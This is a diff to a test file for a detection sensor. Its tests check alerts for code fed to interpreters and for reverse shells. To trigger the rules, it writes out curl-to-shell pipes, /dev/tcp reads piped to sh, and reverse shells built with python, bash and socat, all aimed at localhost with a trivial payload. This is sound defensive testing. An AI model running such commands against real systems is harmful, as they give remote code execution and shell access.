@@ -10,10 +10,10 @@ import subprocess
 import sys
 import threading
 
-from sensor import PATIENCE, ROOT, Sensor, directory, get, start, until
+from sensor import PATIENCE, ROOT, TRIGGERS, Sensor, directory, get, start, until
 from tap import Skip, equal, run, test
 
-CODE = b"true\n"  # nothing, in every language that is tested but those of OTHER_CODE
+CODE = b"true\n"  # to other languages than the shell an error, which is as good
 PIPED = "Code fed to an interpreter by a pipe or a descriptor"
 RELAYED = "Shell behind a process with a network connection"
 RULES = [os.path.join(ROOT, "rules/execution", name + ".yml") for name in (
@@ -142,9 +142,9 @@ piped("listener", "a program that listens", "python3 listen.py | sh", "medium", 
 @test
 def renamed(sensor):
     """A downloader and a shell under other names: medium"""
-    need("busybox", "dash")
-    quiet, plain = copy("busybox", "quiet"), copy("dash", "plain")
-    alerts = act(sensor, f"dash -c :; {quiet} wget -qO- {URL} | {plain}")
+    need("curl", "dash")
+    quiet, plain = copy("curl", "quiet"), copy("dash", "plain")
+    alerts = act(sensor, f"dash -c :; {quiet} -s {URL} | {plain}")
     equal(told(alerts), {(PIPED, "medium")})
     equal(evidence(alerts[0], "reader.executable"), plain)
     equal(evidence(alerts[0], "source.executable"), quiet)
@@ -154,6 +154,12 @@ for language, code in {"python3": "-", "perl": "", "ruby": "", "php": "", "node"
                        }.items():
     piped(f"into_{language.rstrip('.0123456789')}", f"curl | {language}", f"curl -s {URL} | {language} {code}",
           "medium", "curl", ["curl", language])
+
+piped("two_names", "a script on another number of the same pipe", f"sh /dev/fd/3 3< <(curl -s {URL})",
+      "medium", "curl", ["curl"])
+piped("dev_tcp_cat", "what a shell reads of /dev/tcp, by cat",
+      f"exec 3<>/dev/tcp/127.0.0.1/{URL.split(':')[2].split('/')[0]}; "
+      "printf 'GET /x HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | sed '1,/^.$/d' | sh", "medium", "cat | sed")
 
 # --- decoded and generated ---
 
@@ -167,10 +173,14 @@ piped("busybox", "busybox base64 -d | busybox sh",
 piped("python_code", "python -c | sh", "python3 -c 'print(\"true\")' | sh", "medium", "python3 -c")
 piped("perl_code", "perl -e | sh", "perl -e 'print \"true\\n\"' | sh", "medium", "perl -e", ["perl"])
 
+piped("python_feeds", "python -c that feeds a shell itself",
+      "python3 -c 'import subprocess; subprocess.run([\"sh\"], input=b\"true\")'", "medium")
+
 # --- little by itself ---
 
 piped("cat", "cat | sh", "cat code | sh", "low", "cat code")
 piped("builtin", "echo | sh, by a builtin", "echo true | sh", "low")
+piped("replaced", "code that replaces its shell", "echo exec true | sh", "low")
 piped("here_string", "a here-string", "bash <<<true", "low")
 piped("here_document", "a here-document of dash", "sh <<END\ntrue\nEND", "low", shell="dash")
 piped("here_python", "a here-document for python", "python3 - <<END\npass\nEND", "informational")
@@ -303,6 +313,8 @@ reverse("dup2", "a socket as all three streams: critical",
         ["/usr/bin/python3", "-c", CONNECT + DUP + "os.execv('/bin/sh',['sh'])"], {DIRECT})
 reverse("input_only", "a socket as standard input and another descriptor for what it says: critical",
         ["/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/PORT; exec sh <&5 >&5 2>/dev/null"], {DIRECT})
+reverse("relay", "a relay of the attacker's own: high", [os.path.join(TRIGGERS, "relay"), "PORT"],
+        {(RELAYED, "high")})
 reverse("socat", "socat EXEC, a socket pair: high",
         ["/usr/bin/socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh"], {(RELAYED, "high")}, ["socat"])
 reverse("socat_pty", "socat EXEC, a terminal: high",
